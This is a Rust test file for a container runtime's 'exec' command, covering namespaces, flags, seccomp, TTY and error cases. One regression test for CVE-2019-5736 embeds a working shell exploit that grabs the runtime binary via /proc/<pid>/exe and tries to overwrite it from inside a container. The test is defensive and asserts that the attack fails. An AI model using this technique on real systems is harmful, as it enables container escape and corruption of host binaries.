//! `berth exec`: a new process inside a running container.
mod common;
use common::*;
use serde_json::json;

/// A detached container running `probe pause`; returns its id.
fn running(rt: &Runtime, b: &Bundle) -> String {
    let id = unique("ex");
    let out = rt
        .cmd(&["run", "-d", "--bundle", b.dir(), &id])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(out.success(), "run -d failed");
    id
}

fn exec(rt: &Runtime, args: &[&str]) -> (i32, String, String) {
    let mut full = vec!["exec"];
    full.extend_from_slice(args);
    let out = rt.run(&full);
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn exec_runs_in_the_containers_namespaces_and_returns_the_exit_code() {
    let rt = Runtime::new();
    let b = Bundle::new(&["/bin/probe", "pause"]);
    let id = running(&rt, &b);
    let init = rt.state(&id)["pid"].as_i64().unwrap();
    let (code, out, err) = exec(
        &rt,
        &[
            &id,
            "/bin/sh",
            "-c",
            "probe hostname; for n in mnt net pid; do readlink /proc/self/ns/$n; done",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let mut lines = out.lines();
    assert_eq!(lines.next(), Some("berth-test"));
    for ns in ["mnt", "net", "pid"] {
        let host_view = std::fs::read_link(format!("/proc/{init}/ns/{ns}")).unwrap();
        assert_eq!(
            lines.next(),
            Some(host_view.to_str().unwrap()),
            "{ns} namespace"
        );
    }
    let (code, _, _) = exec(&rt, &[&id, "sh", "-c", "exit 42"]);
    assert_eq!(code, 42);
    // Same cgroup as the init.
    let (_, cg, _) = exec(&rt, &[&id, "cat", "/proc/self/cgroup"]);
    let (_, init_cg, _) = exec(&rt, &[&id, "cat", "/proc/1/cgroup"]);
    assert_eq!(cg, init_cg);
    assert!(!cg.is_empty());
}

#[test]
fn exec_flags_set_user_env_cwd_and_caps() {
    let rt = Runtime::new();
    let b = Bundle::new(&["/bin/probe", "pause"]);
    let id = running(&rt, &b);
    let (code, out, err) = exec(
        &rt,
        &[
            "--user",
            "1000:100",
            "-g",
            "2000",
            "--env",
            "FOO=bar",
            "--cwd",
            "/tmp",
            &id,
            "sh",
            "-c",
            "probe id; echo $FOO; probe cwd; echo $PATH",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        "uid=1000 gid=100 groups=2000\nbar\n/tmp\n/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n"
    );
    // The container's caps (kill, net_bind_service, audit_write), plus --cap.
    let (_, out, _) = exec(
        &rt,
        &["--cap", "CAP_CHOWN", &id, "probe", "status", "CapBnd"],
    );
    assert_eq!(
        out.trim(),
        format!("{:016x}", 1u64 << 29 | 1 << 10 | 1 << 5 | 1)
    );
    let (_, out, _) = exec(
        &rt,
        &["--no-new-privs", &id, "probe", "status", "NoNewPrivs"],
    );
    assert_eq!(out.trim(), "1");
}

#[test]
fn exec_process_json_detach_and_pid_file() {
    let rt = Runtime::new();
    let b = Bundle::new(&["/bin/probe", "pause"]);
    let id = running(&rt, &b);
    let dir = TempDir::new("exec-proc");
    let proc_json = dir.path().join("process.json");
    let marker = "/dev/shm/exec-detach";
    std::fs::write(
        &proc_json,
        json!({"args": ["/bin/sh", "-c", format!("echo detached > {marker}; sleep 30")],
               "cwd": "/", "user": {"uid": 0, "gid": 0}, "env": ["PATH=/bin"]})
        .to_string(),
    )
    .unwrap();
    let pid_file = dir.path().join("pid");
    let st = rt
        .cmd(&[
            "exec",
            "--process",
            proc_json.to_str().unwrap(),
            "--detach",
            "--pid-file",
            pid_file.to_str().unwrap(),
            &id,
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    let pid: i32 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(
        std::path::Path::new(&format!("/proc/{pid}")).exists(),
        "detached exec process {pid} runs"
    );
    assert!(wait_for(5.0, || exec(&rt, &[&id, "cat", marker]).1 == "detached\n"));
    let ps = rt.ok(&["ps", "--format", "json", &id]);
    let pids: Vec<i32> = serde_json::from_str(&ps).unwrap();
    assert!(pids.contains(&pid), "{pids:?} should hold {pid}");
}

#[test]
fn exec_errors_match_runc() {
    let rt = Runtime::new();
    let b = Bundle::new(&["/bin/probe", "pause"]);
    let id = running(&rt, &b);
    let (code, _, err) = exec(&rt, &[&id, "nope"]);
    assert_eq!(code, 1);
    assert!(
        err.contains("executable file not found in $PATH") && err.lines().count() == 1,
        "{err}"
    );
    rt.ok(&["pause", &id]);
    let (code, _, err) = exec(&rt, &[&id, "true"]);
    assert_eq!(code, 1);
    assert!(err.contains("cannot exec in a paused container"), "{err}");
    rt.ok(&["resume", &id]);
    rt.ok(&["kill", &id, "KILL"]);
    assert!(wait_for(5.0, || rt.state(&id)["status"] == "stopped"));
    let (code, _, err) = exec(&rt, &[&id, "true"]);
    assert_eq!(code, 1);
    assert!(err.contains("cannot exec in a stopped container"), "{err}");
    let (code, _, err) = exec(&rt, &["missing-id", "true"]);
    assert_eq!(code, 1);
    assert!(err.contains("does not exist"), "{err}");
}

#[test]
fn exec_applies_the_containers_seccomp_profile() {
    let rt = Runtime::new();
    let mut b = Bundle::new(&["/bin/probe", "pause"]);
    b.set(
        "/linux/seccomp",
        json!({"defaultAction": "SCMP_ACT_ALLOW",
               "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38}]}),
    );
    let id = running(&rt, &b);
    let (_, out, _) = exec(&rt, &[&id, "probe", "syscall", "mkdir"]);
    assert_eq!(out.trim(), "error: ENOSYS");
    let (_, out, _) = exec(&rt, &[&id, "probe", "status", "Seccomp"]);
    assert_eq!(out.trim(), "2");
}

#[test]
fn exec_tty_is_relayed_in_the_foreground() {
    let rt = Runtime::new();
    let b = Bundle::new(&["/bin/probe", "pause"]);
    let id = running(&rt, &b);
    let (code, out, err) = exec(&rt, &["-t", &id, "probe", "isatty"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("0:yes 1:yes 2:yes"), "{out:?}");
}

/// CVE-2019-5736: the container tries to make `berth exec` run the berth
/// binary inside it (a `#!/proc/self/exe` script), scans for a process
/// whose /proc/<pid>/exe is berth, holds it open and, once that process is
/// gone, opens it for writing. The berth process in the container is not
/// dumpable and the script's interpreter is the sealed trampoline, so at
/// most the trampoline can be grabbed, and it refuses writes: the host
/// binary stays unchanged. This test runs its own copy of berth, so a
/// regression cannot corrupt the build.
#[test]
fn exec_cannot_be_used_to_overwrite_the_host_binary() {
    require_root();
    let dir = TempDir::new("cve-2019-5736");
    let berth = dir.path().join("berth");
    std::fs::copy(berth_bin(), &berth).unwrap();
    let before = std::fs::read(&berth).unwrap();
    let root = dir.path().join("state");
    let mut b = Bundle::new(&["/bin/sh", "/attack"]);
    let rootfs = b.private_rootfs();
    std::fs::write(rootfs.join("evil"), "#!/proc/self/exe /bin/probe\n").unwrap();
    std::process::Command::new("chmod")
        .args(["755", rootfs.join("evil").to_str().unwrap()])
        .status()
        .unwrap();
    // Find a process running berth, hold its exe open, wait for it to
    // exit, then try to write through the held handle.
    // Only shell builtins in the scan loop (no forks), so it is fast
    // enough to catch a process that lives about a millisecond.
    let attack = r#"
exec 2>/dev/null
echo ready > /dev/shm/ready
n=0
while [ $n -lt 3000 ]; do
  for p in 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
    if command exec 3<"/proc/$p/exe"; then
      t=$(readlink /proc/self/fd/3)
      case "$t" in
        *berth*) echo "grabbed $t" > /dev/shm/log; n=1000000; break ;;
        *) exec 3<&- ;;
      esac
    fi
  done
  n=$((n+1))
done
[ -e /dev/shm/log ] || { echo nothing-grabbed > /dev/shm/log; echo done >> /dev/shm/log; sleep 100; }
j=0
while [ $j -lt 100 ]; do
  if (echo PWNED > /proc/self/fd/3); then echo wrote >> /dev/shm/log; break; fi
  j=$((j+1)); sleep 0.05
done
echo done >> /dev/shm/log
sleep 100
"#;
    std::fs::write(rootfs.join("attack"), attack).unwrap();
    let id = unique("cve");
    let run = |args: &[&str]| {
        std::process::Command::new(&berth)
            .arg("--root")
            .arg(&root)
            .args(args)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap()
    };
    assert!(run(&["run", "-d", "--bundle", b.dir(), &id]).success());
    // Once the attacker's scan loop runs, exec the trap a few times.
    assert!(
        wait_for(5.0, || rootfs_has(&root, &id)),
        "attacker did not start"
    );
    for _ in 0..5 {
        run(&["exec", &id, "/evil", "sleep", "1"]);
    }
    let log = || {
        std::process::Command::new(&berth)
            .arg("--root")
            .arg(&root)
            .args(["exec", &id, "cat", "/dev/shm/log"])
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .unwrap_or_default()
    };
    assert!(
        wait_for(20.0, || log().contains("done")),
        "attack did not finish: {}",
        log()
    );
    let text = log();
    let after = std::fs::read(&berth).unwrap();
    run(&["delete", "--force", &id]);
    assert!(
        !text.contains("wrote"),
        "the write through /proc/PID/exe succeeded: {text}"
    );
    assert!(before == after, "the host berth binary was modified");
}

/// The attack script has signalled readiness (its /dev/shm/ready exists),
/// checked through the init's root.
fn rootfs_has(root: &std::path::Path, id: &str) -> bool {
    let state = std::fs::read_to_string(root.join(id).join("state.json")).unwrap_or_default();
    let pid = serde_json::from_str::<serde_json::Value>(&state)
        .ok()
        .and_then(|v| v["pid"].as_i64());
    pid.is_some_and(|p| std::path::Path::new(&format!("/proc/{p}/root/dev/shm/ready")).exists())
}

/// The container's program is exec'd by the sealed trampoline, not by the
/// berth binary: a `#!/proc/self/exe /bin/probe` script makes the kernel
/// run whatever executes it, here the trampoline, which execs
/// `/bin/probe /evil echo ...` (with berth itself it would fail to parse).
#[test]
fn exec_program_is_started_by_the_sealed_trampoline() {
    let rt = Runtime::new();
    let mut b = Bundle::new(&["/bin/probe", "pause"]);
    let rootfs = b.private_rootfs();
    let evil = rootfs.join("evil");
    std::fs::write(&evil, "#!/proc/self/exe /bin/probe\n").unwrap();
    std::process::Command::new("chmod")
        .args(["755", evil.to_str().unwrap()])
        .status()
        .unwrap();
    let id = running(&rt, &b);
    let (code, out, err) = exec(&rt, &[&id, "/evil", "echo", "via", "trampoline"]);
    assert_eq!((code, out.as_str()), (0, "via trampoline\n"), "{err}");
    // The same through the init (create/start) path.
    let mut b2 = Bundle::new(&["/evil", "echo", "init", "too"]);
    b2.set(
        "/root",
        serde_json::json!({"path": rootfs, "readonly": true}),
    );
    assert_eq!(rt.output_of(&b2), "init too\n");
}
